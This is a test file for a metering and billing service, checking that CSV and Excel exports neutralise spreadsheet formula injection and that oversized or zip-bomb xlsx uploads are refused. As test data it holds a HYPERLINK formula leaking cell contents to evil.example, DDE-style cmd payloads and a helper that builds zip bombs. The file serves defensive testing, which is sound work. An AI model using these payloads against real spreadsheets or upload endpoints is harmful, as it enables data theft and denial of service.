/**
 * Spreadsheets in and out: exported cells that would run as formulas (=HYPERLINK, @SUM, +, -, tab, CR)
 * are prefixed with ' in the readings CSV and Excel exports and the billing workbook, numbers stay
 * numbers; an .xlsx upload that inflates past the limit (a zip bomb, or one whose directory lies about
 * its sizes) is refused before exceljs reads it, with an error naming the limit.
 */
import { deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHarness, type Harness } from '../api/harness.js';
import { safeCell } from '../../src/util/spreadsheet-cell.js';
import { ReadingImportRow, readingsCsv, readingsXlsx, type ListedReading } from '../../src/exchange/index.js';
import { linesXlsx } from '../../src/billing/store/export.js';
import { readXlsx } from '../../src/import/index.js';
import { checkZipInflatedSize, XLSX_MAX_INFLATED_BYTES } from '../../src/import/zip-limit.js';

describe('safeCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['@SUM(1+1)*cmd|"/C calc"!A0', `'@SUM(1+1)*cmd|"/C calc"!A0`],
    ['+7 (495) 000-00-00', `'+7 (495) 000-00-00`],
    ['-2+3', `'-2+3`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['ул. Ленина, 1', 'ул. Ленина, 1'],
    ['-1234.56', '-1234.56'], // a negative amount formatted as text is still a number
    ['+5', '+5'],
    ['', ''],
  ])('%j → %j', (input, out) => {
    expect(safeCell(input)).toBe(out);
  });
  it('numbers, null and dates pass unchanged', () => {
    expect(safeCell(-12.5)).toBe(-12.5);
    expect(safeCell(null)).toBeNull();
    const d = new Date('2026-11-01T00:00:00Z');
    expect(safeCell(d)).toBe(d);
  });
});

const row = (over: Partial<ListedReading>): ListedReading => ({
  time: new Date('2026-11-01T00:00:00Z'), value: -3.5, unit: 'm3', quantity: 'volume_m3', source: 'staff', version: 1,
  meter_id: 1, serial: 'SN-1', resource: 'cold_water', building_id: 1, address: 'ул. Мира, 5', premise: '12', account: 'LS-1', ...over,
});

describe('exports', () => {
  it('readings CSV: a hostile address and account are text; the negative value stays a number', () => {
    const csv = readingsCsv([row({ address: '=HYPERLINK("http://evil.example","x")', account: '@SUM(A1:A9)' })]).toString('utf8');
    const line = csv.split('\r\n')[1];
    // The address has quotes, so the CSV quotes it too ("" inside): '=HYPERLINK(""http://evil.example"",""x"")'.
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example"",""x"")";12;'@SUM(A1:A9);SN-1;cold_water;volume_m3;2026-11-01T00:00:00.000Z;-3.5;m3;staff;1`);
  });

  it('readings and billing workbooks: hostile text is a text cell starting with \', numbers are numeric cells', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await readingsXlsx([row({ address: '+cmd|"/C calc"!A0', serial: '-SN' })]) as unknown as ArrayBuffer);
    const r = wb.worksheets[0].getRow(2);
    expect(r.getCell(1).value).toBe(`'+cmd|"/C calc"!A0`);
    expect(r.getCell(4).value).toBe(`'-SN`);
    expect(r.getCell(8).value).toBe(-3.5);

    const line = {
      accountId: '7', resource: 'cold_water', method: 'meter', heatingMethod: null, quantity: 1.5, amount: -12345, parts: [{ label: 'x', quantity: 1.5, price: 50.5, amount: -12345 }],
      kind: 'adjustment', adjustmentKind: 'reversal', adjustsPeriod: '2026-10-01', exportId: 'E-1',
    };
    const labels = new Map([['7', { number: '=1+1', address: '@evil', premise: '3' }]]);
    const bwb = new ExcelJS.Workbook();
    await bwb.xlsx.load(await linesXlsx([line as never], labels, 'accruals 2026-11') as unknown as ArrayBuffer);
    const b = bwb.worksheets[0].getRow(2);
    expect(b.getCell(1).value).toBe(`'=1+1`);
    expect(b.getCell(2).value).toBe(`'@evil`);
    // -12345 kopecks = -123.45 roubles: a number, not text.
    expect(b.getCell(9).value).toBe(-123.45);
  });
});

/** A one-entry zip built by hand: `declared` is what the directory claims the entry inflates to. */
function zipOf(name: string, content: Buffer, declared = content.length): Buffer {
  const data = deflateRawSync(content);
  const n = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18); local.writeUInt32LE(declared, 22); local.writeUInt16LE(n.length, 26);
  const cd = Buffer.alloc(46);
  cd.writeUInt32LE(0x02014b50, 0); cd.writeUInt16LE(20, 4); cd.writeUInt16LE(20, 6); cd.writeUInt16LE(8, 10);
  cd.writeUInt32LE(data.length, 20); cd.writeUInt32LE(declared, 24); cd.writeUInt16LE(n.length, 28); cd.writeUInt32LE(0, 42);
  const cdStart = 30 + n.length + data.length;
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0); eocd.writeUInt16LE(1, 8); eocd.writeUInt16LE(1, 10);
  eocd.writeUInt32LE(46 + n.length, 12); eocd.writeUInt32LE(cdStart, 16);
  return Buffer.concat([local, n, data, cd, n, eocd]);
}

describe('formulas in an uploaded workbook', () => {
  it('a formula cell is read as the value it shows, never evaluated again; "=1+1" typed as text stays text and is no number', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('readings');
    ws.addRow(['account', 'serial', 'date', 'value']);
    // Row 2: the value is a formula whose cached result Excel shows (2); row 3: a text cell "=1+1"; row 4: a hostile serial.
    ws.addRow(['7001', 'CW-1', '2026-10-01', { formula: '1+1', result: 2 }]);
    ws.addRow(['7001', 'CW-1', '2026-10-02', '=1+1']);
    ws.addRow(['7001', '=HYPERLINK("http://evil.example","x")', '2026-10-03', 5]);
    const [t] = await readXlsx(Buffer.from(await wb.xlsx.writeBuffer()));
    expect(t.rows.map((r) => r.values.value)).toEqual(['2', '=1+1', '5']);
    expect(t.rows[2].values.serial).toBe('=HYPERLINK("http://evil.example","x")');
    // The rows as the import checks them: 2 is a number; "=1+1" is refused naming the cell's text.
    expect(ReadingImportRow.safeParse(t.rows[0].values)).toMatchObject({ success: true, data: { value: 2 } });
    const bad = ReadingImportRow.safeParse(t.rows[1].values);
    expect(bad.success).toBe(false);
    expect(bad.error?.issues.map((i) => [i.path[0], i.message])).toEqual([['value', 'not a number: "=1+1"']]);
  });
});

describe('xlsx inflate limit', () => {
  const hundredMb = Buffer.alloc(100 * 1024 * 1024, 0x20);

  it('a ~100 KB file inflating to 100 MB is refused, naming the 20 MB limit, whether the directory tells or lies', async () => {
    expect(XLSX_MAX_INFLATED_BYTES).toBe(20 * 1024 * 1024);
    const honest = zipOf('xl/worksheets/sheet1.xml', hundredMb);
    expect(honest.length).toBeLessThan(200 * 1024);
    await expect(readXlsx(honest)).rejects.toThrow('the workbook inflates to 100.0 MB, more than the limit of 20.0 MB; split it into smaller files');
    // The directory claims 1 000 bytes: the inflater stops at the limit anyway.
    const liar = zipOf('xl/worksheets/sheet1.xml', hundredMb, 1000);
    await expect(readXlsx(liar)).rejects.toThrow('the workbook inflates to more than 20.0 MB, more than the limit of 20.0 MB; split it into smaller files');
  });

  it('the limit is a parameter; a real workbook under it is read; garbage is named as not a zip', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('meters');
    ws.addRow(['serial', 'address']);
    ws.addRow(['SN-1', 'ул. Мира, 5']);
    const buf = Buffer.from(await wb.xlsx.writeBuffer());
    const tables = await readXlsx(buf);
    expect(tables[0].rows[0].values).toEqual({ serial: 'SN-1', address: 'ул. Мира, 5' });
    // The same workbook with a 1 KB limit: its XML parts inflate to more than 1 KB.
    expect(() => checkZipInflatedSize(buf, 1024)).toThrow(/more than the limit of 0\.0 MB/);
    expect(() => checkZipInflatedSize(Buffer.from('PK\u0003\u0004 not really a zip'))).toThrow(/not a readable zip \(no central directory\)/);
  });
});

describe('xlsx inflate limit through the real API', () => {
  let h: Harness;
  beforeAll(async () => { h = await startHarness(); }, 120_000);
  afterAll(async () => { await h?.close(); });

  it('POST /import/registry with a zip bomb answers 422 naming the limit; nothing is imported', async () => {
    const org = (await h.call('POST', '/organisations', h.adminToken, { name: 'УК bomb' })).body.id;
    const bomb = zipOf('xl/worksheets/sheet1.xml', Buffer.alloc(100 * 1024 * 1024, 0x20));
    const r = await h.app.inject({
      method: 'POST', url: `/import/registry?org_id=${org}`, payload: bomb,
      headers: { authorization: `Bearer ${h.adminToken}`, 'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
    });
    expect(r.statusCode).toBe(422);
    expect(r.json().errors).toEqual([{ sheet: '', row: 0, message: 'cannot read the file: the workbook inflates to 100.0 MB, more than the limit of 20.0 MB; split it into smaller files' }]);
    expect((await h.opened.db.query('SELECT count(*)::int AS n FROM buildings WHERE org_id = $1', [org])).rows[0].n).toBe(0);
  });
});
